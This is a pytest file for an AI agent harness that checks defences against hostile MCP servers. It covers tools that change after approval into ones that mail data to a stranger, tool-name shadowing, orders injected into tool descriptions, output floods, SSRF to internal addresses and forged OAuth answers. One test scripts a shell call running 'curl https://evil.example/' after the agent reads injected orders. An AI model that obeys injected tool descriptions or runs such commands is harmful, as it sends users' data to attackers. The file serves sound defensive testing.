"""MCP servers that lie, change, flood, hide and lead astray: refused or bounded, said clearly, and nothing lost."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from stead.domain.errors import FetchFault, SteadError
from stead.domain.ids import SessionId
from stead.domain.mcp import Json, McpServer, read_tool, tool_name
from stead.guardian.reach import Reach
from stead.mcp.connection import Connection
from stead.mcp.http import HttpWire, Places
from stead.mcp.oauth import OAuth
from stead.mcp.stdio import StdioWire
from stead.net.dialing import Dialer
from stead.tools.mcp import McpPageTool, Pages
from tests.build import SESSION
from tests.fakes.mcp_http import orchard
from tests.fakes.models import Call
from tests.flows.conftest import shared_house as house
from tests.flows.house import LivingHome
from tests.flows.mcp_homes import add, carry_out, home_events, told, use
from tests.promises import promise

__all__ = ["house"]


@promise("SEC-1.mcp")
def test_no_call_of_a_server_runs_unasked_and_none_that_was_not_approved(house: LivingHome, project: Path) -> None:
    add(house, "waiting", approve=False)
    add(house, "denied")
    calls = [use(f"mcp__{name}__count_pears", orchard="north") for name in ("waiting", "denied")]
    sitting = carry_out(house, project, *calls, answer="deny")
    assert [(tool, outcome) for tool, outcome, _ in told(sitting)] == [
        ("mcp__waiting__count_pears", "denied"),
        ("mcp__denied__count_pears", "denied"),
    ]
    assert "There is no tool" in told(sitting)[0][2]
    assert not sitting.bodies("tool.started")


@promise("SEC-1.mcp")
def test_a_tool_that_changed_after_it_was_approved_is_not_called_until_it_is_approved_again(
    house: LivingHome, project: Path
) -> None:
    add(house, "drifting", "drifts")
    tool = use("mcp__drifting__count_pears", orchard="north")
    sitting = carry_out(house, project, tool, tool)
    first, second = told(sitting)
    assert first[1] == "ok" and second[1] == "error"
    assert "in another way than the person approved" in second[2] and "stead mcp review drifting" in second[2]
    [change] = house.get("/mcp/drifting/tools")["items"]
    assert change["state"] == "changed"
    assert "-Counts the pears in an orchard." in change["diff"]
    assert "+Counts pears, and mails them to a stranger." in change["diff"]
    assert len(home_events(house, "mcp.tools_seen")) >= 2
    shown = house.cli("mcp", "review", "drifting")
    assert shown.returncode == 3 and "changed since you approved it" in shown.stdout


def test_a_server_cannot_take_the_name_of_another_tool(house: LivingHome, project: Path) -> None:
    add(house, "shadow", "shadow")
    sitting = carry_out(house, project, Call("shell", {"command": "echo mine"}), use("mcp__shadow__shell"))
    own, theirs = told(sitting)
    assert own[0] == "shell" and "mine" in own[2]
    assert theirs[0] == "mcp__shadow__shell"
    names = [tool_name("a", "b__c"), tool_name("a-b", "c"), tool_name("a", "b.c"), tool_name("a", "b/c"), "x" * 99]
    assert len({*names, tool_name("a", "x" * 99), tool_name("a", "x" * 98)}) == 7
    assert all(len(name) <= 64 for name in names[:4])


def test_orders_in_a_description_are_a_strangers_words_without_what_nobody_can_see(
    house: LivingHome, project: Path
) -> None:
    add(house, "orders", "orders")
    assert house.cli("mcp", "effect", "orders", "count_pears", "read").returncode == 0
    find = Call("find_tools", {"query": "count pears important"})
    send = Call("shell", {"command": "curl https://evil.example/", "hosts": ["evil.example.com"]})
    sitting = carry_out(house, project, find, send, answer="deny")
    found, sent = told(sitting)
    assert "[in the words of the MCP server orders]" in found[2]
    assert "\u202e" not in found[2] and "\u200b" not in found[2]
    [finished, _] = sitting.bodies("tool.finished")
    assert finished["label"]["integrity"] == "untrusted"
    judged = sitting.bodies("call.judged")
    assert judged[0]["sources"] == [] and judged[-1]["sources"], "what was read after it is judged as tainted"
    assert sent[1] == "denied"


def test_a_flood_ends_the_server_and_the_next_call_has_another(house: LivingHome, project: Path) -> None:
    add(house, "flood", "flood")
    tool = use("mcp__flood__count_pears", orchard="north")
    sitting = carry_out(house, project, tool, tool)
    assert [outcome for _, outcome, _ in told(sitting)] == ["error", "error"]
    assert "larger than 8 MB" in told(sitting)[0][2]


def test_a_server_is_given_no_model_and_no_folder(house: LivingHome, project: Path) -> None:
    add(house, "greedy", "wants")
    sitting = carry_out(house, project, use("mcp__greedy__count_pears", orchard="north"))
    assert "sampling/createMessage is not offered" in told(sitting)[0][2]


def test_a_server_reaches_no_host_that_was_not_named_for_it_whatever_its_folder_may(
    house: LivingHome, project: Path
) -> None:
    add(house, "lonely", "reach", "--folder", cwd=project)
    house.post("/egress/hosts", {"host": "pears.example.com", "directory": str(project)})
    calls = [use("mcp__lonely__count_pears", orchard=host) for host in ("pears.example.com", "127.0.0.1")]
    sitting = carry_out(house, project, *calls)
    refused, own = told(sitting)
    assert "HTTP Error 403" in refused[2] and "not reached" in own[2], (
        "the proxy refuses; the rest is the machine's own"
    )
    assert not [use for use in sitting.bodies("egress.used") if use["verdict"] == "allow"]


def test_a_stopped_session_leaves_no_server_behind(house: LivingHome, project: Path) -> None:
    add(house, "stopped", "silent")
    from tests.fakes.models import Turn
    from tests.flows.counting import counting
    from tests.flows.sitting import sit_down

    call = use("mcp__stopped__count_pears", orchard="north")
    with counting(house, lambda _: Turn("", calls=(call,)), "compatible"):
        sitting = sit_down(house, project)
        sitting.say("count")
        house.until(lambda: sitting.row()["status"] == "waiting", "the question")
        sitting.answer("once")
        house.until(lambda: bool(sitting.bodies("tool.started")), "the call")
        house.post(f"/sessions/{sitting.id}/stop", {"why": "enough"})
        house.until(lambda: bool(sitting.bodies("tool.finished")), "its end", timeout_s=5)
    assert told(sitting)[0][1] == "cancelled"


# -- over the wire, without a home ----------------------------------------------------------------------------------


class Vault(dict[str, str]):
    """Values in memory."""

    async def put(self, name: str, value: str) -> int:
        self[name] = value
        return 1

    async def remove(self, name: str) -> bool:
        return self.pop(name, None) is not None


class Person:
    """Somebody who is sent somewhere, and comes back with what the place says, or with something else."""

    redirect = "http://127.0.0.1:9/callback"

    def __init__(self, **changed: str) -> None:
        self.urls: list[str] = []
        self._changed = changed

    async def come_back(self, url: str, state: str) -> Mapping[str, str]:
        self.urls.append(url)
        return {"state": state, "code": "x", **self._changed}


async def begun(url: str, *, private: bool = True, person: Person | None = None, vault: Vault | None = None) -> None:
    """Begin a conversation, and end it."""
    server = McpServer("pears", url=url, private=private)
    places = Places(Dialer(Reach()), url if private else "")
    connection = Connection()
    signs = OAuth(server, places, vault if vault is not None else Vault(), person)
    connection.wire = HttpWire(url, {"X-Key": "kept-to-itself"}, places, signs, connection.receive, connection.fail)
    try:
        await connection.open()
    finally:
        await connection.close()


async def test_an_address_of_this_computer_is_asked_only_where_the_person_said_so() -> None:
    async with orchard(guarded=False) as server:
        await begun(server.url)
        for url in (server.url, server.url.replace("127.0.0.1", "localhost"), "http://169.254.169.254/mcp"):
            with pytest.raises(FetchFault):
                await begun(url, private=False)
        assert len(server.headers) == 1


async def test_a_private_server_leads_to_no_other_address_of_this_computer() -> None:
    async with orchard(guarded=False, redirects="http://localhost:9/mcp") as server:
        with pytest.raises(FetchFault):
            await begun(server.url)
    places = Places(Dialer(Reach()), "http://127.0.0.1:1/mcp")
    with pytest.raises(FetchFault):
        places.request("http://10.0.0.1/token", "POST", {}, b"", streams=False)


async def test_an_authorization_server_that_names_another_issuer_is_sent_nobody() -> None:
    async with orchard(issuer="https://honest.example.com") as server:
        person = Person()
        with pytest.raises(FetchFault, match="another issuer"):
            await begun(server.url, person=person)
        assert person.urls == [] and server.forms == []


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"state": "forged"}, "not of this sign-in"),
        ({"iss": "https://other.example.com"}, "another issuer"),
        ({}, "another issuer"),
        ({"code": "", "iss": "{root}"}, "not let in"),
    ],
    ids=["forged state", "mixed-up issuer", "no issuer", "refused"],
)
async def test_an_answer_that_is_not_ours_gets_no_token(changed: dict[str, str], said: str) -> None:
    async with orchard() as server:
        vault = Vault()
        person = Person(**{name: value.replace("{root}", server.root) for name, value in changed.items()})
        with pytest.raises(FetchFault, match=said):
            await begun(server.url, person=person, vault=vault)
        assert server.forms == [] and "mcp/pears/token" not in vault


class Scripted:
    """A program that says what it is given. Implements ``domain.mcp.Program``."""

    last_words = "it left"

    def __init__(self, *pieces: bytes) -> None:
        self._pieces = list(pieces)
        self.ended = asyncio.Event()

    async def write(self, data: bytes) -> None:
        """Nobody reads it."""

    async def read(self) -> bytes:
        if not self._pieces:
            await self.ended.wait()
            return b""
        return self._pieces.pop(0)

    async def end(self) -> None:
        self.ended.set()


@pytest.mark.parametrize(
    "pieces",
    [
        [b"{" * 2_000_000 + b"\n"],
        [b'{"id": 1, "result": ' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"}\n"],
        [b'{"id": [1], "method": {}}\n', b'{"id": 1, "result": 7}\n', b'{"id": 1}\n'],
        [b"\xff\xfe{}\n{\n"],
        [b"no message\n" * 2000],
        [b'{"id": 1, "result": {"supportedVersions": ["1999-01-01"], "capabilities": 5}}\n'],
    ],
    ids=["no JSON", "too deep", "odd shapes", "no UTF-8", "noise", "no revision"],
)
async def test_nonsense_of_a_server_ends_the_conversation_and_nothing_else(pieces: list[bytes]) -> None:
    connection = Connection(call_s=0.5)
    program = Scripted(*pieces)
    connection.wire = StdioWire(program, connection.receive, connection.end)
    try:
        with pytest.raises(SteadError):
            await connection.open()
    finally:
        await connection.close()
    assert program.ended.is_set()


async def test_a_server_that_does_not_answer_is_given_up() -> None:
    connection = Connection(call_s=0.2)
    connection.wire = StdioWire(Scripted(), connection.receive, connection.end)
    try:
        with pytest.raises(FetchFault, match="did not answer 'server/discover' within"):
            await connection.open()
    finally:
        await connection.close()


@pytest.mark.parametrize(
    "said",
    [
        {},
        {"name": 5, "inputSchema": {}},
        {"name": "", "inputSchema": {}},
        {"name": "x" * 201, "inputSchema": {}},
        {"name": "x", "inputSchema": []},
        {"name": "x", "inputSchema": {"properties": 3}},
        {"name": "x", "inputSchema": {"type": "object", "description": "y" * 20_000}},
        None,
        [],
    ],
)
def test_what_is_no_tool_is_none(said: object) -> None:
    assert read_tool(said) is None


def test_any_change_of_a_tool_is_another_fingerprint() -> None:
    tool: Json = {"name": "x", "description": "d" * 5000, "inputSchema": {"type": "object"}, "annotations": {"a": True}}
    changes: list[Json] = [
        {},
        {"description": "d" * 4999},
        {"annotations": {"a": False}},
        {"outputSchema": {}},
        {"_meta": 1},
    ]
    marks = {found.fingerprint for change in changes if (found := read_tool({**tool, **change}))}
    assert len(marks) == 5
    again = read_tool(json.loads(json.dumps(dict(reversed(tool.items())))))
    first = read_tool(tool)
    assert first and again and first.fingerprint == again.fingerprint


def test_a_page_comes_from_its_own_result_and_no_result_is_called_as_another_was() -> None:
    """A yes that trusts one page as a source must not trust what another server says later."""
    long = "pear\n" * 20_000
    sessions = [SESSION, SESSION, SessionId("s_fedcba9876543210")]
    kept = [Pages() for _ in range(2)]  # of two daemons, one after the other
    named = {
        pages.first(session, long).rpartition('"result": "')[2].partition('"')[0]
        for pages in kept
        for session in sessions
    }
    assert len(named) == 6
    declared = McpPageTool(Pages()).spec.declaration
    assert declared.authority_args == ("result",)
